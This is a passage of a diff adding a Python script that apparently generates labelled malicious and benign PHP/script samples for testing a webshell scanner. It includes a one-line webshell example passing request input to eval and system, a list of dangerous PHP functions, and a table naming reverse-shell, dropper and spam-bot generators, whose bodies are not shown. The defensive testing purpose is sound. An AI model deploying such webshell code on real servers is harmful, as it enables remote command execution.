+            "        return false;\n    }\n    $tmp = tempnam(sys_get_temp_dir(), 'upd');\n"
+            "    $ch = curl_init(%s);\n    $fp = fopen($tmp, 'wb');\n    curl_setopt($ch, CURLOPT_FILE, $fp);\n"
+            "    curl_setopt($ch, CURLOPT_FOLLOWLOCATION, true);\n    curl_exec($ch);\n    curl_close($ch);\n"
+            "    fclose($fp);\n    if (!hash_equals($expected_sha256, hash_file('sha256', $tmp))) {\n"
+            "        unlink($tmp);\n        return false;\n    }\n    $zip = new ZipArchive();\n"
+            "    if ($zip->open($tmp) === true) {\n        $zip->extractTo(WP_PLUGIN_DIR . '/acme');\n"
+            "        $zip->close();\n    }\n    unlink($tmp);\n    return true;\n}\n" % php_sq(url))
+    return php_file(g, body)
+
+
+def b_upload_handler(g):
+    r = g.rng
+    k = r.choice(["avatar", "photo", "attachment", "image"])
+    body = ("$allowed = array('image/jpeg' => 'jpg', 'image/png' => 'png', 'image/gif' => 'gif');\n"
+            "if (!isset($_FILES['%s']) || $_FILES['%s']['error'] !== UPLOAD_ERR_OK) {\n"
+            "    http_response_code(400);\n    exit('no file');\n}\n"
+            "if ($_FILES['%s']['size'] > %d) {\n    exit('too large');\n}\n"
+            "$finfo = new finfo(FILEINFO_MIME_TYPE);\n$type = $finfo->file($_FILES['%s']['tmp_name']);\n"
+            "if (!isset($allowed[$type])) {\n    exit('type not allowed');\n}\n"
+            "$name = bin2hex(random_bytes(16)) . '.' . $allowed[$type];\n"
+            "$dir = __DIR__ . '/uploads/' . date('Y/m');\nif (!is_dir($dir)) {\n    mkdir($dir, 0755, true);\n}\n"
+            "if (!move_uploaded_file($_FILES['%s']['tmp_name'], $dir . '/' . $name)) {\n    exit('failed');\n}\n"
+            "echo json_encode(array('file' => $name));\n"
+            % (k, k, k, r.choice([1048576, 2097152, 5242880]), k, k))
+    return php_file(g, body)
+
+
+def b_newsletter(g):
+    r = g.rng
+    body = ("function acme_send_newsletter()\n{\n    if (!current_user_can('manage_options')) {\n"
+            "        wp_die('forbidden');\n    }\n    check_admin_referer('acme_newsletter');\n"
+            "    global $wpdb;\n    $subject = sanitize_text_field($_POST['subject']);\n"
+            "    $body = wp_kses_post($_POST['body']);\n"
+            "    $emails = $wpdb->get_col(\"SELECT email FROM {$wpdb->prefix}acme_subscribers WHERE confirmed = 1\");\n"
+            "    foreach ($emails as $email) {\n        %s($email, $subject, $body, array('Content-Type: text/html'));\n"
+            "    }\n    return count($emails);\n}\n" % r.choice(["wp_mail", "mail"]))
+    return php_file(g, body)
+
+
+def b_lang_pack(g):
+    r = g.rng
+    words = ["system", "exec", "shell_exec", "passthru", "eval", "assert", "base64_decode", "gzinflate",
+             "str_rot13", "proc_open", "popen", "create_function", "move_uploaded_file", "mail",
+             "file_put_contents", "call_user_func", "preg_replace", "include", "require"]
+    r.shuffle(words)
+    body = "$language_data = array(\n    'LANG_NAME' => 'PHP',\n    'KEYWORDS' => array(\n        1 => array(\n"
+    body += "".join("            %s,\n" % php_sq(w) for w in words)
+    body += "        ),\n    ),\n    'CASE_SENSITIVE' => array(1 => false),\n);\n"
+    return php_file(g, body, host=False)
+
+
+def b_js_eval(g):
+    r = g.rng
+    return ("/* admin helpers */\n(function () {\n  var cfg = JSON.parse(document.getElementById('cfg').textContent);\n"
+            "  function run(expr) { return eval('(' + expr + ')'); }\n"
+            "  window.%s = function (s) { return run(s); };\n"
+            "  // the server side calls shell_exec($_POST['cmd']) only for admins\n})();\n"
+            % r.choice(["calc", "evalExpr", "compute"]))
+
+
+def b_markdown(g):
+    r = g.rng
+    return ("# Security notes\n\nNever write code like this:\n\n```php\n"
+            "<?php eval($_POST['code']); system($_GET['%s']); ?>\n```\n\n"
+            "It passes request input to `eval` and `system`. Use `escapeshellarg()` and "
+            "a fixed command instead.\n" % r.choice(["cmd", "c", "x"]))
+
+
+def b_encoded_asset(g):
+    r = g.rng
+    png = bytes(r.randrange(256) for _ in range(r.randint(200, 600)))
+    body = ("$icons = array(\n    'logo' => 'data:image/png;base64,%s',\n);\n"
+            "function icon($name)\n{\n    global $icons;\n    header('Content-Type: image/png');\n"
+            "    echo base64_decode(substr($icons[$name], strpos($icons[$name], ',') + 1));\n}\n"
+            % b64(b"\x89PNG\r\n\x1a\n" + png))
+    return php_file(g, body)
+
+
+def b_cli_tool(g):
+    body = ("if (PHP_SAPI !== 'cli') {\n    exit(1);\n}\n$args = array_slice($argv, 1);\n"
+            "passthru('php ' . escapeshellarg(__DIR__ . '/artisan') . ' ' . implode(' ', array_map('escapeshellarg', $args)), $rc);\n"
+            "exit($rc);\n")
+    return php_file(g, body)
+
+
+# name, function, class, language (extension), expect
+TEMPLATES = [
+    ("eval_input", t_eval_input, "malicious", "php", "high"),
+    ("system_input", t_system_input, "malicious", "php", "high"),
+    ("varfunc_callee", t_varfunc_callee, "malicious", "php", "high"),
+    ("callback_callee", t_callback, "malicious", "php", "high"),
+    ("varvar_callee", t_varvar, "malicious", "php", "high"),
+    ("callee_from_input", t_callee_input, "malicious", "php", "high"),
+    ("array_varfunc", t_array_varfunc, "malicious", "php", "high"),
+    ("magic_gadget", t_destruct_gadget, "malicious", "php", "high"),
+    ("include_input", t_include_input, "malicious", "php", "high"),
+    ("include_hidden_path", t_include_hidden_path, "malicious", "php", "any"),
+    ("eval_layers", t_eval_layers, "malicious", "php", "high"),
+    ("heredoc_payload", t_heredoc_payload, "malicious", "php", "high"),
+    ("uploader", t_uploader, "malicious", "php", "high"),
+    ("dropper_input", t_dropper_input, "malicious", "php", "high"),
+    ("dropper_fixed", t_dropper_fixed, "malicious", "php", "high"),
+    ("mail_loop", t_mailer_loop, "malicious", "php", "high"),
+    ("phpmailer_loop", t_phpmailer_loop, "malicious", "php", "high"),
+    ("perl_revshell", t_perl_revshell, "malicious", "pl", "high"),
+    ("perl_irc_bot", t_perl_irc_bot, "malicious", "pl", "high"),
+    ("perl_smtp_bot", t_perl_smtp_bot, "malicious", "pl", "high"),
+    ("python_revshell", t_python_revshell, "malicious", "py", "high"),
+    ("python_spammer", t_python_spammer, "malicious", "py", "high"),
+    ("sh_download_exec", t_sh_download_exec, "malicious", "sh", "high"),
+    ("sh_revshell", t_sh_revshell, "malicious", "sh", "high"),
+    ("fixed_exec", b_fixed_exec, "benign", "php", "none"),
+    ("template_eval", b_template_eval, "benign", "php", "none"),
+    ("updater", b_updater, "benign", "php", "none"),
+    ("upload_handler", b_upload_handler, "benign", "php", "none"),
+    ("newsletter", b_newsletter, "benign", "php", "none"),
+    ("lang_pack", b_lang_pack, "benign", "php", "none"),
+    ("js_eval", b_js_eval, "benign", "js", "none"),
+    ("markdown_doc", b_markdown, "benign", "md", "none"),
+    ("encoded_asset", b_encoded_asset, "benign", "php", "none"),
+    ("cli_tool", b_cli_tool, "benign", "php", "none"),
+]
+
+
+def generate(seed, per):
+    """Yield (file name, bytes, manifest row) for every variant."""
+    for name, fn, cls, lang, expect in TEMPLATES:
+        n = per if lang == "php" else max(2, per // 2)
+        for i in range(n):
+            tag = "%s:%s:%d" % (seed, name, i)
+            rng = random.Random(tag)
+            g = Gen(rng, noise=(lang == "php"))
+            g.malicious = cls == "malicious"
+            text = fn(g)
+            fname = hashlib.sha256(tag.encode()).hexdigest()[:12] + "." + lang
+            row = (fname, cls, name, lang, expect, ",".join(sorted(g.transforms)) or "-")
+            yield fname, text.encode("latin-1"), row
+
+
+def safe_out_dir(path):
+    """The output must be a new or empty directory under a temp dir, and not
+    anything that looks like a web root."""
+    real = os.path.realpath(path)
+    tmp_roots = {os.path.realpath(p) for p in (tempfile.gettempdir(), "/tmp", "/var/tmp")}
+    if not any(real == t or real.startswith(t + "/") for t in tmp_roots) or real in tmp_roots:
+        sys.exit("gen_variants: %s is not under a temp dir (%s)" % (path, ", ".join(sorted(tmp_roots))))
+    webby = {"public_html", "www", "htdocs", "httpdocs", "html", "web", "wp-content"}
+    if webby & set(real.split("/")):
+        sys.exit("gen_variants: %s looks like a web root" % path)
+    if os.path.exists(real) and os.listdir(real):
+        sys.exit("gen_variants: %s is not empty" % path)
+    return real
+
+
+def main():
+    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
+    ap.add_argument("--out", required=True)
+    ap.add_argument("--seed", type=int, default=1)
+    ap.add_argument("--per", type=int, default=12, help="variants per PHP template (half for scripts)")
+    a = ap.parse_args()
+    out = safe_out_dir(a.out)
+    os.makedirs(out, exist_ok=True)
+    rows = []
+    for fname, data, row in generate(a.seed, a.per):
+        with open(os.path.join(out, fname), "wb") as f:
+            f.write(data)
+        rows.append(row)
+    with open(os.path.join(out, "variants.tsv"), "w") as f:
+        f.write("file\tclass\ttechnique\tlang\texpect\ttransforms\n")
+        for row in rows:
+            f.write("\t".join(row) + "\n")
+    print("gen_variants: %d files (%d malicious, %d benign) in %s, seed %d" % (
+        len(rows), sum(r[1] == "malicious" for r in rows), sum(r[1] == "benign" for r in rows), out, a.seed))
+
+
+if __name__ == "__main__":
+    main()
